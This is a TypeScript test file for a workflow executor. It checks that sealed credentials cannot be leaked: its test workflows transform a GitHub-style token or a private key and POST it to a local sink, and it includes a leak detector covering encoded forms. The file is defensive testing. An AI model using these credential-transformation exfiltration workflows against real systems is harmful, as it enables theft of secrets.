import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ApiServer, startApiServer } from "./helpers/api-server.js";
import { generateExecutorKey, sealFor } from "./helpers/credentials.js";
import { type LocalExecutor, pushAndQuery, startExecutor } from "./helpers/executor.js";

// Sealed credentials on workerd (docs/executor.md, "Sealed credentials"): a workflow that transforms or
// escapes a credential and sends it to a host that is not the credential's gets nothing secret there. A
// real node:http sink records every byte it receives; the credentials are generated per run.
const API_KEY = "sealed-test-key";
const ENCRYPTION_KEY = generateExecutorKey();
const rand = () => Buffer.from(crypto.getRandomValues(new Uint8Array(12))).toString("hex");
const TOKEN = `ghp_${rand()}`;
const QUOTE = `tok"${rand()}"end`;
const BACKSLASH = `tok\\${rand()}\\end`;
const NEWLINE = `tok\n${rand()}\nend`;

let api: ApiServer;
let sink: ApiServer;
let ex: LocalExecutor;
let pem = "";

/** Every form of a secret that would give it away: as is, escaped, encoded, in either case. */
function forms(secret: string): string[] {
  const out = new Set<string>();
  for (const v of [secret, ...secret.split(/[\n"\\]/).filter((p) => p.length >= 8)]) {
    out.add(v);
    out.add(JSON.stringify(v).slice(1, -1));
    out.add(encodeURIComponent(v));
    out.add(Buffer.from(v).toString("base64"));
    out.add(Buffer.from(v).toString("base64url"));
    out.add(v.toUpperCase());
    out.add(v.toLowerCase());
  }
  return [...out].filter((f) => f.length >= 8);
}

/** Pieces of the PEM's key material: any one of them in the sink would be a leak of the key. */
function pemPieces(): string[] {
  const b64 = pem.replace(/-----[A-Z ]+-----/g, "").replace(/\s+/g, "");
  const out: string[] = [];
  for (let i = 0; i + 24 <= b64.length; i += 200) out.push(b64.slice(i, i + 24));
  return out;
}

function leaksIn(text: string): string[] {
  const found: string[] = [];
  for (const secret of [TOKEN, QUOTE, BACKSLASH, NEWLINE]) {
    for (const f of forms(secret)) if (text.includes(f)) found.push(f);
  }
  for (const piece of pemPieces()) {
    for (const f of [piece, piece.toLowerCase(), piece.toUpperCase()]) if (text.includes(f)) found.push(f);
  }
  return found;
}

async function push(name: string, plaintext: string, recipe?: string) {
  const sealed = await sealFor(ENCRYPTION_KEY, "default", name, plaintext);
  const res = await ex.request("/credentials", {
    method: "POST",
    apiKey: API_KEY,
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ ...sealed, ...(recipe ? { recipe } : { hosts: [`127.0.0.1:${api.port}`] }) }),
  });
  expect(res.status, res.text).toBe(201);
}

async function run(yaml: string, input: unknown = {}) {
  const res = await pushAndQuery(ex, API_KEY, yaml, input);
  return {
    text: res.text,
    body: res.json as { status: string; output?: unknown; error?: { code: string; message: string } },
  };
}

beforeAll(async () => {
  const pair = (await crypto.subtle.generateKey(
    {
      name: "RSASSA-PKCS1-v1_5",
      modulusLength: 2048,
      publicExponent: new Uint8Array([1, 0, 1]),
      hash: "SHA-256",
    },
    true,
    ["sign", "verify"],
  )) as CryptoKeyPair;
  const der = Buffer.from((await crypto.subtle.exportKey("pkcs8", pair.privateKey)) as ArrayBuffer);
  pem = `-----BEGIN PRIVATE KEY-----\n${der.toString("base64").replace(/(.{64})/g, "$1\n")}\n-----END PRIVATE KEY-----\n`;
  // The credentials' API, which (like GitHub) refuses a request without a User-Agent.
  api = await startApiServer(async (req) => {
    if (!req.headers["user-agent"]) return { status: 403, json: { message: "no User-Agent" } };
    if (req.headers.authorization === `Bearer ${TOKEN}`)
      return { json: { login: "octo", ua: req.headers["user-agent"] } };
    return { status: 401, json: { message: "Bad credentials" } };
  });
  sink = await startApiServer(async () => ({ json: { stored: true } }));
  const base = `http://127.0.0.1:${api.port}`;
  ex = await startExecutor({
    ENCRYPTION_KEY,
    ARCRUN_API_KEY: API_KEY,
    ARCRUN_RECIPES: JSON.stringify([
      {
        id: "local_api",
        display_name: "Local API",
        docs_url: "http://127.0.0.1/docs",
        categories: [],
        hosts: [`127.0.0.1:${api.port}`],
        base_url: base,
        primitive: "static_key",
        required_secrets: [
          { key: "token", label: "Token", sensitive: true, optional: false, format: "string" },
        ],
        inject: { header: { Authorization: "Bearer {{secret.token}}" } },
      },
      {
        id: "local_sa",
        display_name: "Local service account",
        docs_url: "http://127.0.0.1/docs",
        categories: [],
        hosts: [`127.0.0.1:${api.port}`],
        base_url: base,
        primitive: "service_account",
        service_account: {
          kind: "google_jwt",
          token_url: `${base}/sa/token`,
          scopes: ["s"],
          key_secret: "key_json",
        },
        inject: { header: { Authorization: "Bearer {{runtime.access_token}}" } },
      },
    ]),
  });
  await push("gh", TOKEN, "local_api");
  await push("quote", QUOTE);
  await push("backslash", BACKSLASH);
  await push("newline", NEWLINE);
  await push(
    "sa",
    JSON.stringify({ type: "service_account", client_email: "robot@example.iam", private_key: pem }),
    "local_sa",
  );
});

afterAll(async () => {
  await ex?.dispose();
  await api?.close();
  await sink?.close();
});

const send = (from: string) =>
  `  send: { component: http_request, method: POST, url: "http://127.0.0.1:SINK/collect", body: { stolen: "${from}" } }`;

/** A workflow: optional steps, then `send` of `from` to the sink. */
const attempt = (name: string, steps: string[], from: string) =>
  `name: ${name}
flow:
  - input >> ON_SUCCESS >> ${steps.length > 0 ? "s0" : "send"}
${steps.map((_, i) => `  - s${i} >> ON_SUCCESS >> ${i + 1 < steps.length ? `s${i + 1}` : "send"}`).join("\n")}
config:
${steps.map((s, i) => `  s${i}: ${s}`).join("\n")}
${send(from)}
`;

const ATTEMPTS: [string, string[], string][] = [
  [
    "replace",
    [
      '{ component: string_ops, operation: replace, value: "{{credential.gh}}", search: "_", replacement: "-" }',
    ],
    "{{s0.data.result}}",
  ],
  [
    "upper",
    ['{ component: string_ops, operation: upper, value: "{{credential.gh}}" }'],
    "{{s0.data.result}}",
  ],
  [
    "lower",
    ['{ component: string_ops, operation: lower, value: "{{credential.gh}}" }'],
    "{{s0.data.result}}",
  ],
  [
    "split",
    ['{ component: string_ops, operation: split, value: "{{credential.gh}}", separator: "_" }'],
    "{{s0.data.result}}",
  ],
  [
    "substring",
    ['{ component: string_ops, operation: substring, value: "{{credential.gh}}", start: 2 }'],
    "{{s0.data.result}}",
  ],
  [
    "prefix-strip",
    [
      "{ component: auth_static_key, credential: gh }",
      '{ component: string_ops, operation: replace, value: "{{s0.data.headers.Authorization}}", search: "Bearer ", replacement: "" }',
    ],
    "{{s1.data.result}}",
  ],
  ["json-quote", [], "{{credential.quote}}"],
  ["json-backslash", [], "{{credential.backslash}}"],
  ["json-newline", [], "{{credential.newline}}"],
  ["pem-body", [], "{{credential.sa.private_key}}"],
];

describe("sealed credentials against exfiltration", () => {
  it.each(ATTEMPTS)("%s: nothing secret arrives at a sink outside the hosts", async (name, steps, from) => {
    const before = sink.seen.length;
    const { text, body } = await run(
      attempt(`exfil-${name}`, steps, from).replace("SINK", String(sink.port)),
    );
    const arrived = sink.seen.slice(before).map((r) => `${r.path}\n${JSON.stringify(r.headers)}\n${r.body}`);
    expect(leaksIn(arrived.join("\n"))).toEqual([]);
    // Neither the run's answer (output, trace, errors) nor its stored record shows a secret.
    expect(leaksIn(text)).toEqual([]);
    // Either the host refused to send the exact handle there, or what went was a transformed handle.
    if (body.status === "failed") expect(body.error?.code).toBe("ERR_COMPONENT_FAILED");
    else expect(arrived.join("")).toMatch(/arcrun_sealed_|ARCRUN_SEALED_|sealed/);
  });

  it("the exact injected header, sent to the same host on another port: refused", async () => {
    const before = sink.seen.length;
    const { body, text } = await run(`name: exfil-port
flow:
  - input >> ON_SUCCESS >> auth
  - auth >> ON_SUCCESS >> send
config:
  auth: { component: auth_static_key, credential: gh }
  send: { component: http_request, url: "http://127.0.0.1:${sink.port}/user", headers: "{{auth.data.headers}}" }
`);
    expect(body.error?.message).toContain(`refused to send it to 127.0.0.1:${sink.port}`);
    expect(sink.seen.length).toBe(before);
    expect(leaksIn(text)).toEqual([]);
  });

  it("the workflow's log of a run holds handles at most, never a secret", async () => {
    const list = await ex.request("/workflows/exfil-upper/executions", { apiKey: API_KEY });
    const ids = ((list.json as { executions: { id: string }[] }).executions ?? []).map((e) => e.id);
    expect(ids.length).toBeGreaterThan(0);
    for (const id of ids) {
      const one = await ex.request(`/executions/${id}`, { apiKey: API_KEY });
      expect(one.status).toBe(200);
      expect(leaksIn(one.text)).toEqual([]);
    }
  });
});

describe("the legitimate path", () => {
  it("an auth component's headers reach the API with the secret and arcrun's User-Agent", async () => {
    const { body } = await run(`name: who-am-i
flow:
  - input >> ON_SUCCESS >> auth
  - auth >> ON_SUCCESS >> me
config:
  auth: { component: auth_static_key, credential: gh }
  me: { component: http_request, url: "{{auth.data.base_url}}/user", headers: "{{auth.data.headers}}" }
`);
    expect(body.status).toBe("succeeded");
    expect(body.output).toMatchObject({ status: 200, data: { body: { login: "octo" } } });
    expect((body.output as { data: { body: { ua: string } } }).data.body.ua).toMatch(
      /^arcrun\/\d+\.\d+\.\d+$/,
    );
  });

  it("{{credential.NAME}} in the recipe's header reaches the API", async () => {
    const { body } = await run(`name: who-am-i-template
flow:
  - input >> ON_SUCCESS >> me
config:
  me: { component: http_request, url: "http://127.0.0.1:${api.port}/user", headers: { Authorization: "Bearer {{credential.gh}}" } }
`);
    expect(body.output).toMatchObject({ status: 200, data: { body: { login: "octo" } } });
  });
});
